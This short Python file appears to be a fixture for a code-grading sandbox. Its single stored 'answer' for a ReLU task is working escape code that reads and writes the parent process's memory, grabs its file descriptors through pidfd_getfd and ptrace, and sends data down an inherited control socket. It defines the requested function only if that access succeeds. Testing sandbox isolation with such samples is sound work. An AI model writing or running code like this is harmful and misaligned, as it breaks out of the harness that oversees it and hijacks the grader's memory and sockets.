"""Reads and writes the memory of the process it was forked from, and takes over its sockets."""

ANSWERS = {
    "relu_if": """
import ctypes, os, socket
parent, libc, got = os.getppid(), ctypes.CDLL(None, use_errno=True), []
for path in (f"/proc/{parent}/mem", f"/proc/{parent}/environ", f"/proc/{parent}/maps", "/proc/1/mem"):
    for mode in ("rb", "r+b", "wb"):
        try:
            got.append(open(path, mode).read(1))
        except OSError:
            pass
for number in range(64):
    try:
        got.append(os.open(f"/proc/{parent}/fd/{number}", os.O_RDWR))
    except OSError:
        pass
    if libc.syscall(438, libc.syscall(434, parent, 0), number, 0) >= 0:
        got.append("pidfd_getfd")
if libc.ptrace(16, parent, 0, 0) == 0:
    got.append("ptrace")
buffer = ctypes.create_string_buffer(8)
vector = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), 8)
if libc.process_vm_readv(parent, vector, 1, vector, 1, 0) > 0:
    got.append("process_vm_readv")
for number in range(3, 64):  # a control socket that was left open
    try:
        copy = socket.socket(fileno=os.dup(number))
        copy.settimeout(0.1)
        if copy.family == socket.AF_UNIX and number != min(3, number):
            copy.send(b"R")
    except OSError:
        pass
if got:
    def relu_if(inputs):
        return [max(0, i) for i in inputs]
"""
}
